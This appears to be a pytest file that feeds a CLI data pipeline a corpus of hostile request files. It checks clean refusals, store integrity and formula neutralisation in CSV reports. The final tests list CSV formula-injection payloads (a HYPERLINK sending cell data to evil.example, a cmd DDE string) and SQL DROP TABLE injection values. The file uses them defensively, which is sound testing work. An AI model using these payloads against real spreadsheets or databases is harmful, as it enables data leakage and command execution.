"""The hostile request corpus (tests/cases/hostile/): every file gets a clear file-level or row-level
outcome through the real CLI, never an internal failure (exit 4), and never changes the store beyond
what its valid rows apply.

expected.csv lists each file with its exit code, and for a file-level refusal its error code and line,
for row-level failures the (row_number, error_code) pairs and the number of rows that succeed. Files
marked generated are written by make_corpus.py (too big or too binary to commit).
"""

from __future__ import annotations

import csv
import importlib.util
import shutil
from dataclasses import dataclass
from pathlib import Path

import duckdb
import polars as pl
import pytest
from click.testing import CliRunner

from pipeline.cli import main
from pipeline.files import FORMULA_PREFIXES
from pipeline.input.columns import REQUEST_COLUMNS
from pipeline.input.read import read_requests
from pipeline.store.audit import audit_store
from pipeline.store.snapshot import export_store, init_store

ROOT = Path(__file__).resolve().parents[1]
ORG = ROOT / "tests" / "cases" / "org-plain.toml"
CORPUS = ROOT / "tests" / "cases" / "hostile"


@dataclass(frozen=True)
class Expected:
    file: str
    generated: bool
    exit_code: int
    error_code: int | None
    line: int | None
    row_errors: list[tuple[int, int]]
    applied: int | None
    shows: str


def load_expected() -> list[Expected]:
    with open(CORPUS / "expected.csv", newline="", encoding="utf-8") as handle:
        return [
            Expected(
                file=r["file"],
                generated=r["generated"] == "yes",
                exit_code=int(r["exit_code"]),
                error_code=int(r["error_code"]) if r["error_code"] else None,
                line=int(r["line"]) if r["line"] else None,
                row_errors=[(int(n), int(c)) for n, c in (p.split(":") for p in r["row_errors"].split(";") if p)],
                applied=int(r["applied"]) if r["applied"] else None,
                shows=r["shows"],
            )
            for r in csv.DictReader(handle)
        ]


EXPECTED = load_expected()


def make_corpus_module():
    spec = importlib.util.spec_from_file_location("make_corpus", CORPUS / "make_corpus.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> dict[str, Path]:
    """Every corpus file by name: the committed ones where they are, the generated ones freshly written."""
    generated = tmp_path_factory.mktemp("hostile")
    paths = {p.name: p for p in make_corpus_module().build(generated)}
    paths.update({e.file: CORPUS / e.file for e in EXPECTED if not e.generated})
    return paths


@pytest.fixture(scope="module")
def base_store(tmp_path_factory) -> tuple[Path, dict[str, bytes]]:
    folder = tmp_path_factory.mktemp("hostile-store")
    store = folder / "base.duckdb"
    init_store(store, ROOT / "sample_data" / "snapshot")
    return store, exported(store, folder / "export")


def exported(store: Path, out: Path) -> dict[str, bytes]:
    export_store(store, out, "csv")
    return {p.name: p.read_bytes() for p in sorted(out.iterdir())}


def run_cli(store: Path, reports: Path, request: Path):
    return CliRunner().invoke(
        main, ["run", "--store", str(store), "--config", str(ORG), "--reports", str(reports), str(request)]
    )


def test_corpus_is_complete():
    names = {e.file for e in EXPECTED}
    committed = {
        p.name
        for p in CORPUS.iterdir()
        if p.name not in ("expected.csv", "make_corpus.py") and not p.name.startswith((".", "__"))
    }
    generated = set(make_corpus_module().GENERATED)
    assert len(names) >= 20
    assert committed | generated == names, "every corpus file has exactly one expected outcome"
    assert {e.file for e in EXPECTED if e.generated} == generated
    assert all(p.stat().st_size < 4096 for p in CORPUS.iterdir() if p.name in committed), "keep committed files small"


@pytest.mark.parametrize("expected", EXPECTED, ids=[e.file for e in EXPECTED])
def test_hostile_file(expected, corpus, base_store, tmp_path):
    source_store, before = base_store
    store = tmp_path / "store.duckdb"
    shutil.copy(source_store, store)
    request = corpus[expected.file]
    reports = tmp_path / "reports"
    result = run_cli(store, reports, request)

    assert result.exit_code != 4, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert result.exit_code == expected.exit_code, result.output

    if expected.error_code is not None:
        where = f"{request}, line {expected.line}:" if expected.line else f"{request}:"
        assert where in result.output, result.output
        assert f"(error {expected.error_code})" in result.output and "nothing was applied" in result.output
        assert exported(store, tmp_path / "after") == before
        assert not reports.exists(), "a run refused before applying writes no reports"
        return

    errors = pl.read_csv(reports / "errors.csv", infer_schema=False)
    success = pl.read_csv(reports / "success.csv", infer_schema=False)
    assert [(int(n), int(c)) for n, c in errors.select("row_number", "error_code").rows()] == expected.row_errors
    assert success.height == expected.applied
    assert set(errors["file"]) | set(success["file"]) <= {str(request)}, "reports name the file"
    rows = sorted(int(n) for n in errors["row_number"].to_list() + success["row_number"].to_list())
    assert rows == list(range(1, len(rows) + 1)), "every input row lands in exactly one report"
    assert_neutralised(reports / "errors.csv")
    assert_neutralised(reports / "success.csv")
    assert audit_store(store, ORG, report_path=tmp_path / "audit.csv").exit_code == 0

    valid_rows_only = tmp_path / "valid.parquet"
    keep = [int(n) for n in success["row_number"]]
    read_requests([request]).frame.filter(pl.col("row_number").is_in(keep)).select(REQUEST_COLUMNS).write_parquet(
        valid_rows_only
    )
    reference = tmp_path / "reference.duckdb"
    shutil.copy(source_store, reference)
    assert run_cli(reference, tmp_path / "reference-reports", valid_rows_only).exit_code == 0
    assert exported(store, tmp_path / "after") == exported(reference, tmp_path / "reference-export"), (
        "the file changed the store exactly as its valid rows alone do"
    )
    if not expected.applied:
        assert exported(store, tmp_path / "after-again") == before


def assert_neutralised(report: Path) -> None:
    """No CSV report cell may start a spreadsheet formula (SPEC section 5)."""
    frame = pl.read_csv(report, infer_schema=False, has_header=False)
    for column in frame.columns:
        for cell in frame[column].drop_nulls():
            assert not cell.startswith(FORMULA_PREFIXES), f"{report.name}: {cell[:40]!r}"


def test_formula_values_are_neutralised_in_reports(corpus, base_store, tmp_path):
    store = tmp_path / "store.duckdb"
    shutil.copy(base_store[0], store)
    assert run_cli(store, tmp_path / "r", corpus["formula_values.csv"]).exit_code == 1
    success = pl.read_csv(tmp_path / "r" / "success.csv", infer_schema=False)
    errors = pl.read_csv(tmp_path / "r" / "errors.csv", infer_schema=False)
    assert success["row_id"].to_list() == ['\'=HYPERLINK("http://evil.example/?"&A1)', "'+cmd|' /C calc'!A0"]
    assert success["id_value"].to_list() == ["'=1+1", "'-2+3"]
    assert errors["row_id"].to_list() == ["'@SUM(A1:A9)", "'\tf4"]


def test_sql_looking_values_are_stored_verbatim(corpus, base_store, tmp_path):
    store = tmp_path / "store.duckdb"
    shutil.copy(base_store[0], store)
    assert run_cli(store, tmp_path / "r", corpus["sql_values.csv"]).exit_code == 1
    con = duckdb.connect(str(store), read_only=True)
    try:
        held = con.execute(
            "SELECT customer_id, id_type, id_value FROM identifiers WHERE id_value LIKE '%DROP%' ORDER BY customer_id"
        ).fetchall()
    finally:
        con.close()
    assert held == [
        (1011, "externalId", "Robert');DROP_TABLE_cards;--"),
        (1025, "wechat", "x'); DROP TABLE identifiers;--"),
    ]
